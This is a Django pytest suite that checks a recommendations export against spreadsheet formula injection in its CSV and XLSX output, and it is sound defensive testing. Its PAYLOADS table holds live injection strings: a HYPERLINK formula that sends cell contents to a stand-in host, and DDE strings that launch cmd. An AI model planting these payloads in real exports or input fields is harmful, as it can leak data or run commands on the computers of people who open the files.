"""The formula walk of the audit (issue #9), kept in the suite: a text that a spreadsheet would
run as a formula (=, +, -, @, a tab or a carriage return first, and the full-width ＝＋－＠ that
Chinese input methods type) is put into every field that reaches an exported column, and every
cell of the CSV and of the XLSX (read back with openpyxl) must stay text.

The fields are read from the export code itself (recommendations/export.py: the queryset's
FIELDS and the link tables its rows join), so a new column is walked without touching this
test; the walk also checks that each text column really carried the payload.
"""

import ast
import csv
import inspect
import io

import pytest
from django.db import models
from openpyxl import load_workbook
from ui_helpers import make_article, make_rec

from recommendations import export
from recommendations.models import (
    CoDepartment,
    Department,
    Recommendation,
    RecommendationTag,
    Tag,
)

pytestmark = pytest.mark.django_db

# Written out here, not read from export.py: the test must not trust the list it checks.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PAYLOADS = {
    "=": '=HYPERLINK("http://x.example/?d="&A1,"点击")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
    "＝": '＝HYPERLINK("http://x.example")',
    "＋": "＋1＋1",
    "－": "－1＋1",
    "＠": "＠SUM(1,1)",
}


def text_field(model, path):
    """The model field at the end of a lookup path, if it holds free text."""
    *relations, name = path.split("__")
    for relation in relations:
        model = model._meta.get_field(relation).related_model
    field = model._meta.get_field(name)
    is_text = isinstance(field, models.CharField | models.TextField) and not field.choices
    return field if is_text else None


def exported_paths():
    """(model, lookup path) of every exported value: the item's own FIELDS, and the names of
    the link tables that `rows` joins per chunk (read from its source)."""
    paths = [(Recommendation, path) for path in export.FIELDS if path != "pk"]
    tree = ast.parse(inspect.getsource(export.rows))
    for call in ast.walk(tree):
        if isinstance(call, ast.Call) and getattr(call.func, "id", "") == "_names_by_item":
            link, _ids, name = call.args
            paths.append((getattr(export, link.id), name.value))
    assert len(paths) > len(export.FIELDS) - 1, "the link tables were not found in export.rows"
    return paths


def poison(rec, link_model, path, value):
    """Store `value` in the field at `path`, starting from the item (or its link row)."""
    start = rec if link_model is Recommendation else link_model.objects.get(recommendation=rec)
    *relations, name = path.split("__")
    target = start
    for relation in relations:
        target = getattr(target, relation)
    type(target).objects.filter(pk=target.pk).update(**{name: value})


@pytest.fixture
def world(edition, departments):
    """Per payload two items (one showing its 位置, one its number), each with its own article,
    lead and co-department and tag, and the payload in every exported text field."""
    for n, (prefix, payload) in enumerate(PAYLOADS.items()):
        article = make_article(edition, order=10 + n, author="李四", title=f"文章{n}")
        for k, place in enumerate(("一、1", "")):
            lead = Department.objects.create(name=f"主办{n}-{k}", order=100)
            co = Department.objects.create(name=f"协办{n}-{k}", order=100)
            tag = Tag.objects.create(name=f"标签{n}-{k}")
            rec = make_rec(article, f"{n}.{k}", "要点", place=place)
            Recommendation.objects.filter(pk=rec.pk).update(lead_department=lead)
            RecommendationTag.objects.create(recommendation=rec, tag=tag)
            CoDepartment.objects.create(recommendation=rec, department=co)
            rec.refresh_from_db()
            for i, (model, path) in enumerate(exported_paths()):
                field = text_field(model, path)
                if field is None or (path == "place" and not place):
                    continue
                # Unique names (departments, tags) and short columns (the number) still start
                # with the payload's dangerous first characters.
                suffix = f"{n}{k}{i}"
                value = payload[: (field.max_length or 10_000) - len(suffix)] + suffix
                if path == "number":
                    value = f"{prefix}{n}.{k}"
                poison(rec, model, path, value)


def expected_payload_columns():
    """Every column but those filled from choices or dates (status, deadline, category)."""
    others = [p for m, p in exported_paths() if text_field(m, p) is None]
    return len(export.columns()) - len(others)


def check(rows):
    header, *data = rows
    assert header == export.columns()
    assert len(data) == 2 * len(PAYLOADS)
    live, carried = [], set()
    for row in data:
        assert len(row) == len(header)
        for j, cell in enumerate(row):
            text = "" if cell is None else str(cell)
            if text.startswith(DANGEROUS):
                live.append((header[j], text))
            if text.startswith("'") and text[1:].startswith(DANGEROUS):
                carried.add(j)
    assert live == []
    # Each text column carried a payload in the walk (else it walked nothing).
    assert len(carried) == expected_payload_columns(), sorted(header[j] for j in carried)


def test_every_csv_cell_stays_text(client, viewer, world):
    client.force_login(viewer)
    response = client.get("/recommendations/export.csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    check(list(csv.reader(io.StringIO(body, newline=""))))


def test_every_xlsx_cell_stays_text(client, viewer, world):
    client.force_login(viewer)
    response = client.get("/recommendations/export.xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    check([[c.value for c in row] for row in sheet.iter_rows()])


def test_the_walk_reads_every_exported_path():
    paths = [p for _m, p in exported_paths()]
    # The columns a person can type into are all among them.
    for path in ("heading", "text", "reply", "article__title", "tag__name", "department__name"):
        assert path in paths
